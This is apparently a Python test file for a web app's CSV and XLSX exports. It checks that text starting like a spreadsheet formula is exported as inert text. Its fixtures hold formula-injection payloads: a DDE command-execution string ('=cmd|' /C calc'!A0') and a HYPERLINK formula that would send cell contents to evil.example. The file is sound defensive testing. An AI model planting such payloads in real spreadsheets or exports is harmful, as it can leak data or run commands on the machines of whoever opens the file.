"""Text that looks like a formula is exported so spreadsheet programs show it, never run it.

xlsx: a string cell (data_type "s") holding exactly what was typed; CSV: a leading apostrophe. A phone
number with a leading + stays the text typed; numbers the export computes are not touched.
"""
from __future__ import annotations

from datetime import date

import pytest

from kb.exports.cells import csv_cell, xlsx_text
from models import UserRole

from .exports_support import csv_rows, sheet_rows, workbook

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+86 138 0000 0000", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_cells_that_start_like_a_formula_get_an_apostrophe(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value,expected", [("普通文本", "普通文本"), ("a=b", "a=b"), ("", ""), (None, ""),
                                            (-3, "-3"), (2.5, "2.5"), (date(2026, 2, 3), "2026-02-03")])
def test_other_csv_cells_are_written_as_they_are(value, expected):
    assert csv_cell(value) == expected


def test_xlsx_text_drops_what_xml_cannot_hold_and_keeps_line_breaks():
    assert xlsx_text("a\x00b\x07c\nd\te") == "abc\nd\te"
    assert len(xlsx_text("长" * 40_000)) == 32_767


@pytest.fixture
def poisoned(create_user, create_account, create_stakeholder, create_interaction):
    admin = create_user(role=UserRole.ADMIN)
    account = create_account(name="=cmd|' /C calc'!A0", industry="+86 571 8888 0000", region="@region",
                             aliases=["-别名"])
    create_stakeholder(account, name="-张三", title="=1+2", notes="+86 138 0000 0000")
    create_interaction(account, title="@SUM(A1)", summary="=HYPERLINK(\"http://evil\")",
                       occurred_on=date(2026, 5, 6), next_steps=[{"text": "\t=1+1"}])
    return admin, account


def test_the_account_workbook_writes_formula_like_text_as_text(client, login_as, poisoned):
    admin, account = poisoned
    login_as(admin)
    book = workbook(client.get(f"/accounts/{account.id}/export.xlsx"))
    cells = {c.value: c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None}
    for typed in ["=cmd|' /C calc'!A0", "+86 571 8888 0000", "@region", "-别名", "-张三", "=1+2",
                  "+86 138 0000 0000", "@SUM(A1)", '=HYPERLINK("http://evil")', "\t=1+1"]:
        assert typed in cells, typed  # shown exactly as typed …
        assert cells[typed].data_type == "s", typed  # … as text, not a formula
    assert not [c for c in cells.values() if c.data_type == "f"]
    visits = sheet_rows(book, "interactions")
    assert visits[1][visits[0].index("occurred_on")].date() == date(2026, 5, 6)  # a real date cell


@pytest.mark.parametrize("url", ["/accounts/export.csv", "/search/export.csv?q=张三"])
def test_csv_exports_prefix_formula_like_text(client, login_as, poisoned, url):
    admin, _account = poisoned
    login_as(admin)
    response = client.get(url)
    rows = csv_rows(response)
    cells = {c for r in rows for c in r}
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    if url.startswith("/accounts"):
        assert "'=cmd|' /C calc'!A0" in cells and "'+86 571 8888 0000" in cells and "'@region" in cells
        assert b"'=cmd|' /C calc'!A0" in response.data
    else:
        assert "'-张三" in cells


def test_the_account_list_xlsx_writes_formula_like_text_as_text(client, login_as, poisoned):
    admin, _account = poisoned
    login_as(admin)
    book = workbook(client.get("/accounts/export.xlsx"))
    row = book.worksheets[0][2]
    by_value = {c.value: c.data_type for c in row if c.value is not None}
    assert by_value["=cmd|' /C calc'!A0"] == "s" and by_value["+86 571 8888 0000"] == "s"
